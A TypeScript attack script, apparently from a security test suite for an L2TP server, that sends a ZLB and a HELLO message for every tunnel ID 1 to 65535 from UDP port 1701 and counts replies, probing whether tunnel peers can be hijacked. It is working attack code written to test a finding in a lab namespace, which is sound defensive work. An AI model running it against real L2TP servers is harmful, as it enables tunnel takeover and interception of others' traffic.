/**
 * Attack script (runs in the attacker namespace), finding 2: try to take
 * over every L2TP tunnel from the attacker's own address. For each Tunnel ID
 * 1..65535 it sends a ZLB (Ns 0, Nr 0) and a HELLO to the server's UDP 1701
 * from its port 1701, paced so the server's receive buffer never overflows
 * (a dropped datagram would make the attack look weaker than it is). Then it
 * listens 2 s for anything the server sends back: on a server that moves a
 * tunnel's peer on any accepted message, the tunnel's traffic arrives here.
 * Prints `SENT zlb=N hello=N RECEIVED n`.
 */
import { createSocket } from 'node:dgram';
import { encodeL2tp } from '../../../../src/l2tp/header.js';

const [server = '10.201.0.1'] = process.argv.slice(2);
const sock = createSocket('udp4');
await new Promise<void>((resolve) => sock.bind(1701, resolve));
let received = 0;
sock.on('message', () => received++);

// Message Type AVP (M bit, length 8, vendor 0, type 0) = 6 (HELLO).
const HELLO_BODY = Uint8Array.of(0x80, 0x08, 0, 0, 0, 0, 0, 6);
const send = (b: Uint8Array): Promise<void> => new Promise((resolve) => sock.send(b, 1701, server, () => resolve()));
let zlb = 0;
let hello = 0;
for (let id = 1; id <= 0xffff; id++) {
  await send(encodeL2tp({ isControl: true, tunnelId: id, sessionId: 0, ns: 0, nr: 0, priority: false }, new Uint8Array()));
  zlb++;
  await send(encodeL2tp({ isControl: true, tunnelId: id, sessionId: 0, ns: 0, nr: 0, priority: false }, HELLO_BODY));
  hello++;
  if (id % 128 === 0) await new Promise((r) => setTimeout(r, 4));
}
await new Promise((r) => setTimeout(r, 2000));
sock.close();
console.log(`SENT zlb=${zlb} hello=${hello} RECEIVED ${received}`);
